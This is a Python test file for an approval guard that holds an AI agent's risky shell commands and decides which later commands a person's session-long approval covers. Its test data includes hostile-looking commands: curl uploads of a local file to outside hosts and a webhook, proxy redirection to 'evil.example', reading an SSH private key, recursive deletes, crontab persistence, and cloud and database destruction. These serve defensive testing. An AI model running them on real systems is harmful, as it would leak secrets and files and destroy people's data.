"""One answer for the rest of a session: what is like the approved call, and what is asked about again."""

from __future__ import annotations

import json
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from chat_confirmation import confirmed
from toolguard_engine.approvals import session_grant_record
from toolguard_engine.approvals.ledger import HeldCall
from toolguard_engine.config.settings import Config, parse
from toolguard_engine.guard import Guard
from toolguard_engine.model.call import Call, Host
from toolguard_engine.rules import packs
from toolguard_engine.server.chat_grants import ChatGrants
from toolguard_engine.server.file_reader import FileReader
from toolguard_engine.server.held_call_decisions import Approvals, Settled
from toolguard_engine.server.session_answers import SessionAnswers
from toolguard_engine.server.world_reader import WorldReader
from toolguard_engine.stores import open as stores
from toolguard_engine.stores.state_files import SESSION_GRANTS
from toolguard_engine.wire import messages

SESSION = "agent:main:main"
HOUR = 3600.0


class Owner:
    """A person in chat, an agent, and the guard between them."""

    def __init__(self, home: Path) -> None:
        self.state, self.work = home / ".openclaw", home / "work"
        for folder in (self.state / "toolguard", self.work, home / "photos"):
            folder.mkdir(parents=True)
        (self.work / "n").write_text("notes")
        self.now = float(int(time.time()))
        self.store = stores.held_calls(self.state, None, gateway="gw")
        host = Host(home=str(home), state_dir=str(self.state), config_path=str(self.state / "openclaw.json"))
        self.guard = Guard(Config(), {}, host, packs.load(), files=FileReader())
        grants, audit, clock = stores.grants(self.state), stores.audit_log(self.state), lambda: self.now
        self.answers = SessionAnswers(stores.session_grants(self.state), audit, clock)
        self.approvals = Approvals(
            self.store, grants, clock, chat_grants=ChatGrants(grants, audit, clock), world=WorldReader()
        )
        self.approvals.session_answers = self.answers

    def call(self, params: str | dict[str, Any], tool: str = "exec", **changed: str) -> Call:
        given = {"command": params} if isinstance(params, str) else params
        return replace(Call(tool, given, agent="main", session=SESSION, run="r", cwd=str(self.work)), **changed)

    def settled(self, call: Call) -> Settled | None:
        """What becomes of it; None where it may run anyway."""
        verdict = self.guard.judge(replace(call, run=""))
        if verdict.decision != "hold":
            assert verdict.decision == "allow", verdict
            return None
        settled = self.approvals.settle(verdict, call, Config())
        self.approvals.write_log()
        return settled

    def held(self, call: Call) -> HeldCall:
        settled = self.settled(call)
        assert settled is not None
        assert settled.entry is not None
        assert settled.verdict.decision == "hold"
        return settled.entry

    def says(self, nonce: str, config: Config | None = None, where: Any = "chat") -> messages.DecisionReply:
        def ask(why: str) -> messages.DecisionReply:
            asked = messages.PersonDecision(7, "approve", where, nonce, "telegram:42", why, lasts="session")
            return self.approvals.decide(asked, config or Config())

        return confirmed(ask, text=lambda reply: reply.text)

    def answer(self, call: Call) -> str:
        """Approves it for the session, and lets it run."""
        reply = self.says(self.held(call).nonce)
        assert reply.ok, reply.text
        assert self.code(call) == "approval.consumed"
        return reply.text

    def code(self, call: Call) -> str:
        settled = self.settled(call)
        return settled.verdict.code if settled else "allow"

    def is_asked(self, call: Call) -> bool:
        return self.code(call) == "approval.pending"

    def is_covered(self, call: Call) -> bool:
        return self.code(call).startswith("grant.s-")

    def events(self, name: str) -> list[dict[str, Any]]:
        return [event for event in stores.audit_log(self.state).events() if event["event"] == name]


@pytest.fixture
def owner(tmp_path: Path) -> Owner:
    return Owner(tmp_path)


UPLOAD = "curl -F f=@n https://up.example.com/in"
HOOK = "curl -d @n https://discord.com/api/webhooks/1/a"

ALIKE = [
    ("rm -rf ~/photos", "cd ~ && rm -r -f photos; echo done"),
    ("mail -s one bob@example.com", "echo more | mail -s two bob@example.com"),
    ("git push -f origin main", "git push -f origin main | grep -v x"),
    (UPLOAD, "curl -sS -m 60 --form f=@n https://up.example.com/in; echo done"),
    (HOOK, "curl -fsS -X POST --data @n https://discord.com/api/webhooks/1/a"),
    (f"{UPLOAD} -k", f"{UPLOAD} -k"),
]
OPTIONS = [
    "--proxy http://evil.example:1", "-x evil.example:1", "--resolve up.example.com:443:192.0.2.1", "-H 'Host: e.example'",
    "--connect-to ::evil.example:443", "-K n", "-L", "-k", "--interface tun0", "--unheard-of",
]  # fmt: skip
OTHERS = [
    ("rm -rf ~/photos", "rm -rf ~/papers"),
    ("rm -rf ~/photos", "rm -rf ~/photos ~/papers"),
    ("rm -rf ~/photos", "vagrant ssh -c 'rm -rf ~/photos'"),
    ("rm -rf ~/photos", "rm -rf ~/photos && git push --force"),
    ("rm -rf ~/photos", "ssh host rm -rf ~/photos"),
    ("rm -rf ~/photos", "rm -rf ~/photos; mail -s x bob@example.com"),
    ("mail -s one bob@example.com", "mail -s one eve@example.com"),
    ("mail -s one bob@example.com", "mail -s one bob@example.com eve@example.com"),
    ("git push -f origin main", "git push -f origin main && git push -f origin prod"),
    ("git push -f origin main", "cd ../other && git push -f origin main"),
    ("git push -f origin main", "git push -f 'origin main'"),
    ("npm unpublish 'a --force'", "npm unpublish a --force"),
    ("mail -s one bob@example.com", "mail -S smtp=evil.example -s one bob@example.com"),
    ("mail -s one bob@example.com", "mail -s one bob@example.com < n"),
    *[(UPLOAD, f"{UPLOAD} {option}") for option in OPTIONS],
    (UPLOAD, f"https_proxy=http://evil.example:1 {UPLOAD}"),
    (UPLOAD, f"export https_proxy=http://evil.example:1; {UPLOAD}"),
    (UPLOAD, f"env https_proxy=http://evil.example:1 {UPLOAD}"),
    (UPLOAD, "curl -F f=@n https://up.example.com/other"),
    (UPLOAD, "curl -F f=@n https://up.example.com/in?to=eve"),
    (HOOK, "curl -d @n https://discord.com/api/webhooks/2/b"),
]


@pytest.mark.parametrize(("first", "later"), ALIKE)
def test_what_does_the_same_is_not_asked_about_again(owner: Owner, first: str, later: str) -> None:
    assert owner.is_asked(owner.call(later))
    owner.answer(owner.call(first))
    assert owner.is_covered(owner.call(later))
    assert owner.is_covered(owner.call(first))


@pytest.mark.parametrize(("first", "later"), OTHERS)
def test_another_target_or_effect_is_asked_about(owner: Owner, first: str, later: str) -> None:
    owner.answer(owner.call(first))
    assert owner.is_covered(owner.call(first))
    assert owner.is_asked(owner.call(later))


@pytest.mark.parametrize("changed", [{"agent": "other"}, {"session": "agent:main:telegram:7"}, {"agent": ""}])
def test_another_agent_or_session_is_asked_about(owner: Owner, changed: dict[str, str]) -> None:
    owner.answer(owner.call("rm -rf ~/photos"))
    assert owner.is_asked(owner.call("rm -rf ~/photos", **changed))


def test_another_folder_is_asked_about_where_it_matters(owner: Owner) -> None:
    owner.answer(owner.call("git push -f origin main"))
    (owner.work / "other").mkdir()
    assert owner.is_asked(owner.call("git push -f origin main", cwd=str(owner.work / "other")))


@pytest.mark.parametrize("command", ["rm -rf ~/photos", "git push -f origin main", UPLOAD])
@pytest.mark.parametrize(
    "changed",
    [{"env": {"https_proxy": "evil.example", "GIT_DIR": "x"}}, {"host": "node"}, {"node": "b"}, {"elevated": True}],
)
def test_another_machine_user_or_environment_is_asked_about(owner: Owner, command: str, changed: dict[str, Any]) -> None:
    owner.answer(owner.call(command))
    assert owner.is_covered(owner.call({"command": command, "timeout": 5}))
    assert owner.is_asked(owner.call({"command": command, **changed}))


def test_what_is_sent_from_another_folder_is_asked_about(owner: Owner) -> None:
    owner.answer(owner.call(UPLOAD))
    (owner.work / "other").mkdir()
    assert owner.is_asked(owner.call(UPLOAD, cwd=str(owner.work / "other")))


def test_a_link_that_leads_elsewhere_by_now_is_asked_about(owner: Owner, tmp_path: Path) -> None:
    (tmp_path / "old").symlink_to(tmp_path / "photos")
    owner.answer(owner.call("rm -rf ~/old/"))
    assert owner.is_covered(owner.call("rm -r -f ~/old/"))
    (tmp_path / "old").unlink()
    (tmp_path / "papers").mkdir()
    (tmp_path / "old").symlink_to(tmp_path / "papers")
    assert owner.is_asked(owner.call("rm -r -f ~/old/"))


def test_a_script_that_has_changed_is_asked_about(owner: Owner) -> None:
    script = owner.work / "clean.sh"
    script.write_text("rm -rf ~/photos\n")
    owner.answer(owner.call("bash clean.sh"))
    assert owner.is_covered(owner.call("bash clean.sh; echo done"))
    script.write_text("rm -rf ~/photos # again\n")
    assert owner.is_asked(owner.call("bash clean.sh; echo done"))


READING = [
    UPLOAD,
    f"{UPLOAD} -k",
    "mail -s one bob@example.com < n",
    "scp n host.example:/tmp/a",
    "ldapmodify -f n",
    "nft -f n",
]


@pytest.mark.parametrize("command", READING)
def test_a_file_that_is_read_or_sent_and_has_changed_is_asked_about(owner: Owner, command: str) -> None:
    """Also where it leads elsewhere, with the same content."""
    call, notes = owner.call(command), owner.work / "n"
    owner.answer(call)
    assert owner.is_covered(call)
    notes.rename(owner.work / "m")
    notes.symlink_to(owner.work / "m")
    assert owner.is_asked(call)
    notes.unlink()
    notes.write_text("notes")
    assert owner.is_covered(call)
    notes.write_text("the tax return")
    assert owner.is_asked(call)


NEVER = [
    "sudo usermod -aG docker ann",
    "cat ~/.ssh/id_ed25519",
    'rm -rf "$X"',
    "rm -rf ~/.openclaw/agents",
    "(crontab -l; echo '* * * * * x') | crontab -",
    "kubectl delete ns x",
    "kubectl delete -f n",
    "terraform destroy -auto-approve",
    "gcloud compute instances delete x -q",
    "docker volume rm x",
    "helm uninstall x",
    "dropdb test",
    'psql test -c "drop table x"',
    "npx prisma migrate reset --force",
    "aws s3 rm s3://b/x",
    "aws s3 rm s3://b/x; echo done",
    "AWS_PROFILE=prod aws s3 rm s3://b/x",
    "gh repo delete a/b --yes",
]


@pytest.mark.parametrize("command", NEVER)
def test_never_for_rights_secrets_the_gateway_and_what_settings_choose(owner: Owner, command: str) -> None:
    verdict = owner.guard.judge(owner.call(command))
    assert verdict.decision == "hold"
    entry = owner.held(owner.call(command))
    reply = owner.says(entry.nonce)
    assert not reply.ok
    assert reply.text.startswith("Nothing was approved: ")
    assert owner.is_asked(owner.call(command))


def test_it_ends_after_eight_hours(owner: Owner) -> None:
    call = owner.call("rm -rf ~/photos")
    owner.answer(call)
    owner.now += session_grant_record.LASTS - 1
    assert owner.is_covered(call)
    owner.now += 1
    assert owner.is_asked(call)


def test_it_ends_when_the_clock_was_set_back(owner: Owner) -> None:
    call = owner.call("rm -rf ~/photos")
    owner.answer(call)
    owner.now -= HOUR
    assert not owner.is_covered(call)


def test_it_ends_with_its_session_and_no_other(owner: Owner) -> None:
    call = owner.call("rm -rf ~/photos")
    owner.answer(call)
    owner.answers.end("agent:main:other")
    assert owner.is_covered(call)
    owner.answers.end(SESSION)
    assert owner.is_asked(call)
    (line,) = owner.events("revoke")
    assert (line["session"], line["why"]) == (SESSION, "the session ended")


def test_the_audit_log_says_who_allowed_what(owner: Owner) -> None:
    call = owner.call("rm -rf ~/photos")
    nonce = owner.held(call).nonce
    text = owner.answer(call)
    (line,) = owner.events("grant")
    assert (line["nonce"], line["by"], line["where"], line["session"]) == (nonce, "telegram:42", "chat", SESSION)
    assert f"delete {owner.work.parent}/photos" in line["shown"]
    assert f"delete {owner.work.parent}/photos" in text


def test_what_it_covers_is_shown_before(owner: Owner) -> None:
    nonce = owner.held(owner.call("rm -rf ~/photos")).nonce
    asked = messages.PersonDecision(7, "approve", "chat", nonce, "telegram:42", "", lasts="session", chat="c")
    shown = owner.approvals.decide(asked, Config())
    assert f"delete {owner.work.parent}/photos, for the rest of this session, 8 hours at most" in shown.text
    assert f"/toolguard approve {nonce} " in shown.text
    assert " --session" in shown.text
    assert owner.is_asked(owner.call("rm -rf ~/photos"))


def test_an_agent_cannot_give_one(owner: Owner) -> None:
    call = owner.call("rm -rf ~/photos")
    assert not owner.says(owner.held(call).nonce, where="tool").ok
    assert owner.is_asked(call)


def test_where_approvals_are_signed_there_is_none(owner: Owner) -> None:
    owner.approvals.session_answers = None
    nonce = owner.held(owner.call("rm -rf ~/photos")).nonce
    reply = owner.says(nonce, parse({"approval": {"signers": "/etc/signers"}}))
    assert not reply.ok
    assert "signature" in reply.text


CHANGES: list[dict[str, Any]] = [
    {"agent": "other"},
    {"expires": 4e9},
    {"session": "agent:main:other"},
    {"alike": [{"rule": "filesystem.delete-recursive", "kind": "delete", "about": "/"}]},
    {"mac": "0" * 64},
    {"mac": ""},
    {"more": 1},
]


@pytest.mark.parametrize("change", CHANGES)
def test_one_that_was_changed_by_hand_does_not_count(owner: Owner, change: dict[str, Any]) -> None:
    call = owner.call("rm -rf ~/photos")
    owner.answer(call)
    path = owner.state / "toolguard" / SESSION_GRANTS
    stored = json.loads(path.read_text())
    (grant,) = stored["grants"]
    path.write_text(json.dumps({**stored, "grants": [{**grant, **change}]}))
    assert owner.is_asked(call)
    assert owner.is_asked(owner.call("rm -rf ~/photos", agent="other"))


@pytest.mark.parametrize("content", [b"", b"{", b"[]", b"\xff", b'{"v": 9, "grants": []}'])
def test_a_damaged_file_asks_again_and_stops_nothing(owner: Owner, content: bytes) -> None:
    call = owner.call("rm -rf ~/photos")
    owner.answer(call)
    (owner.state / "toolguard" / SESSION_GRANTS).write_bytes(content)
    assert owner.is_asked(call)
    owner.answer(call)
    assert owner.is_covered(call)


def test_revoked_by_a_person(owner: Owner) -> None:
    call = owner.call("rm -rf ~/photos")
    owner.answer(call)
    store = stores.session_grants(owner.state)
    (grant,) = store.active(owner.now)
    assert store.revoke("s-none") is None
    assert store.revoke(grant.id) == grant
    assert owner.is_asked(call)


@pytest.mark.parametrize("client", ["acli", "argocd", "podman-compose", "velero"])
def test_naming_a_client_does_not_make_its_arguments_known(owner: Owner, client: str) -> None:
    assert owner.guard.judge(owner.call(f"{client} run 'rm -rf ~/Documents'")).code == "rule.filesystem.delete-recursive"
